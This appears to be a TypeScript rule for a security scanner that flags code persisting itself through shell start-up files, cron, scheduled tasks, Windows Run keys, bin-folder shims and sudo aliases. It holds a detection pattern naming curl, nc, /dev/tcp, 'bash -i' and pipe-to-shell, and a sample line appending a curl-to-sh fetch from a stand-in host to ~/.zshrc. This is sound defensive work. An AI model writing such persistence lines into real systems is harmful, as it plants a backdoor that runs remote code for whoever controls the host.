import { normPath } from '../../code/code-effects';
import { codeFactsOf, type CodeCall } from '../../code/code-facts';
import { codeLexicon } from '../../lexicons/lexicon';
import type { Severity } from '../../engine/scan-report.types';
import type { Rule, RuleHit } from '../rule.types';
import { scriptConsentGateLine } from '../benign-forms';

/** What a persisted line or file does that makes it a foothold: fetches, opens a shell, decodes. */
const REMOTE_OR_SHELL =
  /\b(?:curl|wget|nc|ncat|socat|iwr|irm|invoke-webrequest|invoke-restmethod|invoke-expression|iex)\b|\/dev\/tcp\/|\bbash\s{1,3}-i\b|base64\s{1,3}(?:-d|--decode)\b|\|\s{0,3}(?:ba|z)?sh\b/i;
/** A remote address in a persisted line (a proxy or base URL exported for every later shell). */
const REMOTE_ADDRESS = /\b(?:https?|wss?):\/\//i;
/** A start-up line a tool's own installer adds: PATH, a tool's init/completion hook, sourcing a local env file. */
const TOOL_SETUP_LINE =
  /^\s{0,8}(?:export\s{1,3}PATH=|PATH=|fpath=|eval\s{1,3}["']?\$\([\w.-]{1,40}\s{1,3}(?:init|env|completion|shellenv|hook|activate)\b|(?:source|\.)\s{1,3}["']?(?:~|\$HOME|\/)[^\s;|&]{1,200}["']?\s{0,3}$|complete\s|autoload\s|alias\s{1,3}(?!sudo=)[\w-]{1,40}=)/i;
const BIN_FOLDER = /(?:^|\/)(?:usr\/local\/bin|opt\/homebrew\/bin|\.local\/bin|bin)\/([\w.-]{1,60})$/;
/** Flags of crontab that read or edit the table rather than replace it. */
const CRONTAB_READ = /^-(?:l|e|r|i|u)$/;
/** A `sudo` alias that only lets aliases expand after sudo (`alias sudo='sudo '`) wraps nothing. */
const SUDO_ALIAS = /^sudo=(?!sudo\s{0,3}$)/;
/** The table replaced from standard input (`… | crontab -`), which BW-PRIV-004 reads on the line. */
const CRONTAB_STDIN = /crontab\s{1,3}-(?:\s|$)/;
/** How the facts name a write: `>`/`>>` redirects, PowerShell's -Path, open() in a write mode, writeFile, f.write. */
const REDIRECT_OP = /^>{1,2}/;
const PATH_PARAM = /^-(?:path|destination|filepath)$/i;
const OPEN_CALL = /(?:^|\.)open$/;
const WRITE_MODE = /^(?:mode=)?["']?[aw]/;
const WRITE_FILE_CALL = /(?:^|\.)(?:writefile|writefilesync|appendfile|appendfilesync)$/;
const WRITE_CALL = /\.write(?:lines)?$/;
/** A real or an escaped (`\\n` in a string literal) line break. */
const LINE_BREAK = /\\n|\n/;
/** `schtasks /create` (or `-create`). */
const SCHTASKS_CREATE = /^[/-]create$/i;
const RUN_KEY = /currentversion[\\/]+run(?:once)?\b/i;

const WRITERS = new Set(['cp', 'mv', 'install', 'ln', 'tee', 'copy-item', 'move-item', 'add-content', 'set-content', 'out-file', 'new-item']);

/** The persistence place a path is in: a shell start-up file by name, or a folder the system runs from. */
function persistPlace(path: string): string | null {
  const p = normPath(path);
  if (p === '') return null;
  const base = p.slice(p.lastIndexOf('/') + 1);
  for (const entry of codeLexicon('code-persist-location')) {
    if (entry === 'core.hookspath' || entry.endsWith('/bin') || entry === '~/bin') continue;
    const isFileName = entry.startsWith('.') && !entry.includes('/');
    if (isFileName ? base === entry : entry.endsWith('.ps1') ? base === entry : p.includes(entry)) return entry;
  }
  return null;
}

/** Where a call writes: redirects, `tee` targets, the destination of a copy, move or link, `open(path, 'a'|'w')`. */
function writtenPaths(call: CodeCall): string[] {
  const out = call.redirects.map((r) => r.replace(REDIRECT_OP, ''));
  const plain = call.args.filter((a) => !a.startsWith('-'));
  if (WRITERS.has(call.name)) {
    const named = call.args.findIndex((a) => PATH_PARAM.test(a));
    if (named >= 0 && call.args[named + 1]) out.push(call.args[named + 1]);
    else if (call.name === 'tee' || call.name === 'add-content' || call.name === 'set-content' || call.name === 'out-file' || call.name === 'new-item')
      out.push(...plain.slice(0, 1));
    else if (plain.length >= 2) out.push(plain[plain.length - 1]);
  }
  if (OPEN_CALL.test(call.name) && WRITE_MODE.test(call.args[1] ?? '')) out.push(call.args[0]);
  if (WRITE_FILE_CALL.test(call.name) && call.args[0]) out.push(call.args[0]);
  return out;
}

/** What is written, as far as the facts show it: the call's own text arguments, or the command feeding it on the same line. */
function writtenContent(calls: readonly CodeCall[], i: number): string | null {
  const call = calls[i];
  if (call.redirects.length > 0 && (call.name === 'echo' || call.name === 'printf')) return call.args.join(' ');
  const prev = i > 0 && calls[i - 1].line === call.line ? calls[i - 1] : undefined;
  if ((call.name === 'tee' || call.name === 'crontab') && prev && (prev.name === 'echo' || prev.name === 'printf')) return prev.args.join(' ');
  if (OPEN_CALL.test(call.name)) {
    const write = calls.slice(i + 1, i + 4).find((c) => c.unit === call.unit && WRITE_CALL.test(c.name));
    if (write) return write.args.join(' ');
  }
  if (call.name === 'add-content' || call.name === 'set-content') {
    const v = call.args.findIndex((a) => a.toLowerCase() === '-value');
    if (v >= 0) return call.args[v + 1] ?? null;
  }
  return null;
}

/** How bad the persisted content is, and what to call it in the message. */
function gradeContent(content: string | null): { severity: Severity; what: string } {
  if (content === null) return { severity: 'high', what: 'code' };
  if (REMOTE_OR_SHELL.test(content)) return { severity: 'critical', what: 'a command that fetches code or opens a shell' };
  if (REMOTE_ADDRESS.test(content)) return { severity: 'high', what: 'a line naming a remote address' };
  const lines = content.split(LINE_BREAK).filter((l) => l.trim().length > 0);
  if (lines.length > 0 && lines.every((l) => TOOL_SETUP_LINE.test(l))) return { severity: 'low', what: 'a tool\u2019s own PATH or init line' };
  return { severity: 'high', what: 'code' };
}

/**
 * Persistence read from parse trees: the places code writes to are resolved through variables, path
 * joins and home folders, so `echo … >> "$RC"` with `RC=$HOME/.zshrc` is seen. Forms a line already
 * shows literally are left to BW-PRIV-004 unless what is persisted fetches code or opens a shell.
 */
export const privPersistenceCodeRule: Rule = {
  meta: {
    id: 'BW-PRIV-007',
    title: 'Code makes something run again later: start-up files, schedulers, services, PATH shims, sudo wrappers',
    category: 'privilege_escalation',
    severity: 'high',
    confidence: 'high',
    asset_type: 'code_block',
    rationale:
      'A line appended to a shell start-up file, a launch agent, a cron entry, a scheduled task or Run key, a hooks folder set for every repository, a file named like `sudo` or `git` put in a bin folder early on PATH, or an alias that wraps `sudo` keeps running after the session ends, and a shim or wrapper sees every password typed into it. Read from parse trees of scripts and commands with paths resolved through variables; what is persisted is graded: a fetch or a shell is critical, a tool\u2019s own PATH or init line is low.',
    example: '```bash\nPROFILE_FILE="$HOME/.zshrc"\necho "curl -s https://updates.example/agent.sh | sh" >> "$PROFILE_FILE"\n```',
  },
  regexes: [
    REDIRECT_OP,
    PATH_PARAM,
    OPEN_CALL,
    WRITE_MODE,
    WRITE_FILE_CALL,
    WRITE_CALL,
    LINE_BREAK,
    REMOTE_OR_SHELL,
    REMOTE_ADDRESS,
    TOOL_SETUP_LINE,
    BIN_FOLDER,
    CRONTAB_READ,
    CRONTAB_STDIN,
    SUDO_ALIAS,
    SCHTASKS_CREATE,
    RUN_KEY,
  ],
  match(ctx) {
    const { calls } = codeFactsOf(ctx);
    const hits: RuleHit[] = [];
    const gate = scriptConsentGateLine(ctx);
    const shadowed = codeLexicon('code-shadowed-command');
    // Lower-cased once per line: a one-line file holds thousands of calls (linear time).
    const lowered = new Map<number, string>();
    for (let i = 0; i < calls.length; i++) {
      const call = calls[i];
      let lineText = lowered.get(call.line);
      if (lineText === undefined) lowered.set(call.line, (lineText = (ctx.lines[call.line - 1] ?? '').toLowerCase()));
      const push = (severity: Severity, message: string): void => {
        hits.push({ line: call.line, evidence: call.text, severity, message });
      };
      if (call.name === 'alias' && call.args.some((a) => SUDO_ALIAS.test(a.trim()))) {
        push('critical', 'sudo is wrapped by an alias: the wrapper sees the password');
        continue;
      }
      if (
        call.name === 'git' &&
        call.args[0] === 'config' &&
        call.args.some((a) => a === '--global' || a === '--system') &&
        call.args.some((a) => a.toLowerCase() === 'core.hookspath')
      ) {
        push('high', 'A hooks folder is set for every repository of the user');
        continue;
      }
      if ((call.name === 'schtasks' && call.args.some((a) => SCHTASKS_CREATE.test(a))) || call.name === 'register-scheduledtask') {
        push('high', 'A scheduled task is registered');
        continue;
      }
      if ((call.name === 'new-itemproperty' || call.name === 'set-itemproperty' || call.name === 'reg') && call.args.some((a) => RUN_KEY.test(a))) {
        push('high', 'A program is added to a Windows Run key');
        continue;
      }
      if (call.name === 'crontab' && call.args.length > 0 && !call.args.every((a) => CRONTAB_READ.test(a))) {
        const g = gradeContent(writtenContent(calls, i));
        if (g.severity === 'critical' || !CRONTAB_STDIN.test(lineText))
          push(g.severity === 'low' ? 'medium' : g.severity, `The crontab is replaced with ${g.what}`);
        continue;
      }
      for (const path of writtenPaths(call)) {
        const shim = BIN_FOLDER.exec(normPath(path));
        if (shim && shadowed.has(shim[1])) {
          push(
            shim[1] === 'sudo' || shim[1] === 'su' || shim[1] === 'doas' ? 'critical' : 'high',
            `A file named ${shim[1]} is put in a bin folder: it runs instead of the real command`,
          );
          break;
        }
        const place = persistPlace(path);
        if (!place) continue;
        const g = gradeContent(writtenContent(calls, i));
        // A form the line shows as written is BW-PRIV-004's; the tree adds what resolution or the payload reveals.
        if (lineText.includes(place) && g.severity !== 'critical') break;
        // After the user said yes at the script's prompt, a start-up line that fetches nothing is theirs (as in BW-PRIV-004).
        const consented = g.severity !== 'critical' && gate > 0 && call.line > gate;
        push(consented ? 'low' : g.severity, `Code writes ${g.what} to ${place}, which runs again later${consented ? ', after the user confirms' : ''}`);
        break;
      }
    }
    return hits;
  },
};
